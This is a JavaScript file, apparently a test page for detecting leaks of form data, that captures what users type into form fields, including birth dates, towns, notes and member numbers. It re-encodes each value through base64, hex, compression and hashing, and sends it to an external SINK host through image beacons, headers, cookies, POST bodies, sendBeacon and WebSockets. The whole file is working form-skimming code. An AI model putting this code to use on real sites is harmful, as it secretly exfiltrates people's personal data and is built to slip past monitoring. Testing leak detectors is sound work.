// Tells what was typed into a field when it is left: in every encoding, by every way. Each
// request says which of them it is in `case`.
const utf8 = text => new TextEncoder().encode(text);
const base64 = bytes => btoa(Array.from(bytes, byte => String.fromCharCode(byte)).join(""));
const hex = bytes => Array.from(bytes, byte => byte.toString(16).padStart(2, "0")).join("");
const digest = async (name, text) => new Uint8Array(await crypto.subtle.digest(name, utf8(text)));
const packed = async (format, text) =>
  new Uint8Array(await new Response(new Blob([text]).stream().pipeThrough(new CompressionStream(format))).arrayBuffer());

const encodings = {
  plain: text => text,
  percent: text => encodeURIComponent(encodeURIComponent(text)),
  json: text => JSON.stringify({ form: { fields: [{ value: text }] } }),
  base64: text => base64(utf8(text)),
  base64url: text => base64(utf8(text)).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, ""),
  hex: text => hex(utf8(text)),
  gzip: async text => base64(await packed("gzip", JSON.stringify({ typed: text }))),
  deflate: async text => base64(await packed("deflate", JSON.stringify({ typed: text }))),
  "deflate-raw": async text => base64(await packed("deflate-raw", JSON.stringify({ typed: text }))),
  nested: text => base64(utf8(JSON.stringify({ state: base64(utf8(JSON.stringify({ typed: text }))) }))),
  sha1: async text => hex(await digest("SHA-1", text.trim().toLowerCase())),
  sha256: async text => hex(await digest("SHA-256", text.trim().toLowerCase())),
};

const to = (scheme, path, query) => `${scheme}://${SINK}${path}?case=${query}`;
const ways = {
  query: (what, value) => { new Image().src = to("http", "/hit", what) + "&v=" + encodeURIComponent(value); },
  path: (what, value) => { new Image().src = to("http", "/p/" + encodeURIComponent(value) + "/c.gif", what); },
  referrer: (what, value) => fetch(to("http", "/hit", what), {
    mode: "no-cors", referrerPolicy: "unsafe-url", referrer: "/?r=" + encodeURIComponent(value),
  }),
  header: (what, value) => fetch(to("http", "/hit", what), { headers: { "x-form": encodeURIComponent(value) } }),
  cookie: async (what, value) => {
    document.cookie = "typed=" + encodeURIComponent(value) + "; path=/";
    await fetch("/collect?case=" + what);
    document.cookie = "typed=; path=/; max-age=0";
  },
  body: (what, value) => fetch(to("http", "/hit", what), { method: "POST", mode: "no-cors", body: value }),
  multipart: (what, value) => {
    const body = new FormData();
    body.append("id", "42");
    body.append("v", value);
    return fetch(to("http", "/hit", what), { method: "POST", mode: "no-cors", body });
  },
  beacon: (what, value) => { navigator.sendBeacon(to("http", "/hit", what), value); },
  websocket: (what, value) => new Promise(done => {
    const socket = new WebSocket(to("ws", "/socket", what));
    socket.onopen = () => socket.send(value);
    socket.onmessage = () => { socket.close(); done(); };
    socket.onerror = done;
  }),
};

let queue = Promise.resolve();
addEventListener("focusout", event => {
  const { name, value } = event.target;
  if (!event.isTrusted || !value || !event.target.closest("#ask")) return;
  queue = queue.then(async () => {
    for (const [encoding, encode] of Object.entries(encodings)) {
      const text = await encode(value);
      for (const [way, send] of Object.entries(ways)) {
        const sent = Promise.resolve(send(`${name}.${encoding}.${way}`, text)).catch(() => {});
        // One cookie at a time; nothing else waits for another.
        if (way === "cookie") await sent;
      }
    }
  });
});

// What else a form is made of is told on in one way: choices as `choice`, words as cases.
const more = document.querySelector("#more");
const tellWords = (name, value) => value && ways.query(`${name}.plain.query`, value);
more.addEventListener("change", ({ target }) => {
  const chosen = encodeURIComponent(`${target.name}:${target.value}`);
  if (target.name !== "town" && target.name !== "birth_date") new Image().src = `http://${SINK}/hit?choice=${chosen}`;
});
more.addEventListener("focusout", ({ target }) => {
  const name = target.name || target.id;
  if (["town", "birth_date", "note"].includes(name)) tellWords(name, target.value ?? target.textContent.trim());
});
customElements.define("member-field", class extends HTMLElement {
  constructor() {
    super();
    const root = this.attachShadow({ mode: "open" });
    root.innerHTML = '<label>Member number <input name="member"></label>';
    root.addEventListener("focusout", ({ target }) => tellWords(target.name, target.value));
  }
});
